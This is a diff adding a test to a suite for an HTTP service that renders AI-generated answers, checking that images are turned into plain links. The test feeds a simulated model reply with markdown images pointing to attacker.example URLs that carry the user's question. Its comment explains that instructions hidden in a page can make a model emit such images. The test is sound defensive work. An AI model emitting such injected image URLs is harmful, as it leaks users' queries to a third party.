@@ -89,6 +89,31 @@ describe('generated answers, asked over HTTP', () => {
     assert.match(html, /<code>\[this\]\(javascript:alert\(2\)\)<\/code>/);
   });
 
+  it("serves no image a visitor's browser would load: an injected one would carry the question away", async () => {
+    // Instructions hidden in a page make the model write an image whose URL holds the question.
+    model.reply = [
+      'Run `npm install ask-elements`. ![](https://attacker.example/log?q=How+do+I+install+it)',
+      '',
+      '![the logo][logo] and [![a badge](/badge.svg)](https://ci.example/build)',
+      '',
+      '[logo]: https://attacker.example/l.png?q=install',
+    ].join('\n');
+    for (const format of ['markdown', 'html'] as const) {
+      const answer = await ask(format);
+      assert.equal(answer.didAnswer, true);
+      const html = format === 'markdown' ? rendered(answer.answer) : answer.answer;
+      assert.doesNotMatch(html, /<img\b/i, html);
+      // Each image is a link with its alternative text, or its URL when it has none.
+      assert.match(
+        html,
+        /<a href="https:\/\/attacker\.example\/log\?q=How\+do\+I\+install\+it">https:\/\/attacker/,
+      );
+      assert.match(html, /<a href="https:\/\/attacker\.example\/l\.png\?q=install">the logo<\/a>/);
+      // An image in a link is its text: the link says where it leads.
+      assert.match(html, /<a href="https:\/\/ci\.example\/build">a badge<\/a>/);
+    }
+  });
+
   it('serves an html fragment whose every tag is one it wrote, after a tag marked reads as raw text', async () => {
     // After <script> or <pre>, marked passes text through as written, taken to be raw HTML.
     model.reply = [
